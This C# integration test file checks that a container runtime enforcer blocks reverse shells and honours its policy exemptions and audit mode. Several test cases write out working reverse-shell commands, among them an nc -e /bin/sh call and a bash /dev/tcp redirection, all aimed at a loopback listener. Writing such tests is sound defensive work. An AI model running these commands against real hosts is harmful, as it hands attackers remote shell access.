using MicroEnforcer.IntegrationTests.Harness;
using Xunit;

namespace MicroEnforcer.IntegrationTests.Controls;

/// <summary>
/// Reverse shells against a listener on 127.0.0.1 in the container's own network namespace.
/// The listener sends one command whose output proves a live shell: `echo SHELL-ALIVE-$((6*7))`
/// answers SHELL-ALIVE-42, a string that never appears unless a shell evaluated it.
/// </summary>
public sealed class ReverseShellTests
{
    // Waits 4 s with a builtin on a FIFO nobody writes, not by forking sleep: the attack and the
    // listener end together, and a SIGCHLD landing while the shell enters a notified fork fails
    // that fork with EINTR, which ends a non-interactive busybox sh (docs/limits.md, "Signals
    // and notified calls"). What these tests check happens before; the wait must not be at risk.
    private const string WaitWithoutForking = "exec 9<>/tmp/.wait; read -t 4 x <&9; ";

    // The FIFO the wait reads, made first, while nothing can end.
    private const string MakeWaitFifo = "mkfifo /tmp/.wait; ";

    private const string Alive = "SHELL-ALIVE-42";

    private static string WithListener(string attack, int port = 4444) =>
        MakeWaitFifo + $"(echo 'echo SHELL-ALIVE-$((6*7))'; sleep 3) | nc -l -p {port} > /tmp/received 2>/dev/null & " +
        $"sleep 0.5; {attack}; echo \"rc=$?\"; " + WaitWithoutForking + "echo received:; cat /tmp/received";

    [Fact]
    public void CProgramThatDupsASocketOntoStdioAndExecsAShellIsRefused()
    {
        var r = Container.Run(["/bin/sh", "-c", WithListener("/opt/tests/revshell 127.0.0.1 4444")]);

        Assert.DoesNotContain(Alive, r.Stdout);
        Assert.Contains("rc=126", r.Stdout);
        Assert.Contains("revshell: exec /bin/sh: Permission denied", r.Stderr);
        var e = Assert.Single(r.Events("reverseShell", "blocked"));
        Assert.Equal("127.0.0.1:4444", e.GetProperty("remote").GetString());
        Assert.Equal("execve", e.GetProperty("syscall").GetString());
    }

    [Fact]
    public void BusyboxNcExecIsRefused()
    {
        var r = Container.Run(["/bin/sh", "-c", WithListener("nc 127.0.0.1 4444 -e /bin/sh")]);

        Assert.DoesNotContain(Alive, r.Stdout);
        var e = Assert.Single(r.Events("reverseShell", "blocked"));
        Assert.Equal("dup2", e.GetProperty("syscall").GetString());
        Assert.Contains("in nc", e.GetProperty("reason").GetString());
    }

    [Fact]
    public void BashDevTcpRedirectionIsRefused()
    {
        var r = Container.Run(["/bin/bash", "-c", WithListener("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")],
            image: ImageRootfs.WithBash);

        Assert.DoesNotContain(Alive, r.Stdout);
        Assert.Contains("Operation not permitted", r.Stderr);
        var events = r.Events("reverseShell", "blocked").ToList();
        Assert.NotEmpty(events);
        Assert.All(events, e => Assert.Equal("127.0.0.1:4444", e.GetProperty("remote").GetString()));
    }

    [Theory]
    [InlineData("/opt/tests/revshell 127.0.0.1 4444", false)]
    [InlineData("nc 127.0.0.1 4444 -e /bin/sh", false)]
    [InlineData("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", true)]
    public void WithoutTheEnforcerEachOfThemGetsAShell(string attack, bool bash)
    {
        var r = Container.RunRaw(["/bin/sh", "-c", WithListener(attack)], image: bash ? ImageRootfs.WithBash : null);

        Assert.Contains(Alive, r.Stdout);
    }

    [Theory]
    [InlineData("dup")]
    [InlineData("dup2")]
    [InlineData("dup3")]
    [InlineData("fcntl")]
    [InlineData("connect")]
    public void InsideAnInterpreterEveryRouteOntoStdioIsRefused(string route)
    {
        var r = Container.Run(["/bin/sh", "-c", WithListener($"/opt/tests/python-sim {route} 127.0.0.1 4444")]);

        Assert.Contains($"stdio_socket {route}: Operation not permitted", r.Stdout);
        var e = Assert.Single(r.Events("reverseShell", "blocked"));
        Assert.Equal(route == "connect" ? "connect" : route, e.GetProperty("syscall").GetString());
    }

    [Theory]
    [InlineData("dup2")]
    [InlineData("connect")]
    public void OutsideAnInterpreterTheSameCallsAreUntouched(string route)
    {
        // The same program under a name that is no interpreter's.
        var r = Container.Run(["/bin/sh", "-c", WithListener($"/opt/tests/stdio_socket {route} 127.0.0.1 4444")]);

        Assert.Contains($"stdio_socket {route}: ok", r.Stdout);
        Assert.Empty(r.AuditEvents);
    }

    [Fact]
    public void OrdinaryClientsAndServersAreNotAffected()
    {
        // busybox httpd serves each connection on fd 0 and 1 (inetd style): it is no interpreter.
        // httpd listens before it goes to the background; the nc listener may not be listening
        // yet on a loaded machine, so the client retries until it connects (a fixed sleep made
        // this test flaky in CI). The listener's stdin stays open: with /dev/null there, busybox
        // nc may see its EOF and exit before the client's bytes arrive (1 run in 40 without any
        // enforcer), so what it received is waited for, not its exit.
        const string script =
            "mkdir -p /tmp/www && echo page-content > /tmp/www/index.html && httpd -p 127.0.0.1:8080 -h /tmp/www && " +
            "{ sleep 30 | nc -l -p 5555 > /tmp/got & }; " +
            "wget -q -O - http://127.0.0.1:8080/index.html; " +
            "for i in $(seq 100); do echo hello-over-nc | nc 127.0.0.1 5555 2>/dev/null && break; sleep 0.1; done; " +
            "for i in $(seq 100); do grep -q hello-over-nc /tmp/got && break; sleep 0.1; done; cat /tmp/got";
        var r = Container.Run(["/bin/sh", "-c", script]);

        Assert.Contains("page-content", r.Stdout);
        Assert.Contains("hello-over-nc", r.Stdout);
        Assert.Empty(r.AuditEvents);
    }

    [Fact]
    public void AllowedAddressesExemptTheirNetworks()
    {
        const string policy = """
            apiVersion: microenforcer.dev/v1
            kind: RuntimePolicy
            spec:
              reverseShell: { allowedAddresses: ["127.0.0.0/8"] }
            """;
        var r = Container.Run(["/bin/sh", "-c", WithListener("/opt/tests/revshell 127.0.0.1 4444")], policy);

        Assert.Contains(Alive, r.Stdout);
        Assert.Empty(r.AuditEvents);
    }

    [Fact]
    public void AllowedAddressesOutsideTheTargetDoNotExempt()
    {
        const string policy = """
            apiVersion: microenforcer.dev/v1
            kind: RuntimePolicy
            spec:
              reverseShell: { allowedAddresses: ["10.0.0.0/8", "::1/128"] }
            """;
        var r = Container.Run(["/bin/sh", "-c", WithListener("/opt/tests/revshell 127.0.0.1 4444")], policy);

        Assert.DoesNotContain(Alive, r.Stdout);
        Assert.Single(r.Events("reverseShell", "blocked"));
    }

    [Fact]
    public void AllowedProcessesExemptWhatTheyName()
    {
        const string policy = """
            apiVersion: microenforcer.dev/v1
            kind: RuntimePolicy
            spec:
              reverseShell: { allowedProcesses: ["/bin/busybox"] }
            """;
        var r = Container.Run(["/bin/sh", "-c", WithListener("/opt/tests/revshell 127.0.0.1 4444")], policy);

        Assert.Contains(Alive, r.Stdout);
        Assert.Empty(r.Events("reverseShell", "blocked"));
    }

    [Fact]
    public void AuditModeLetsTheShellRunAndReportsIt()
    {
        const string policy = """
            apiVersion: microenforcer.dev/v1
            kind: RuntimePolicy
            spec:
              reverseShell: { mode: audit }
            """;
        var r = Container.Run(["/bin/sh", "-c", WithListener("/opt/tests/revshell 127.0.0.1 4444")], policy);

        Assert.Contains(Alive, r.Stdout);
        var e = Assert.Single(r.Events("reverseShell", "detected"));
        Assert.Equal("audit", e.GetProperty("mode").GetString());
    }
}
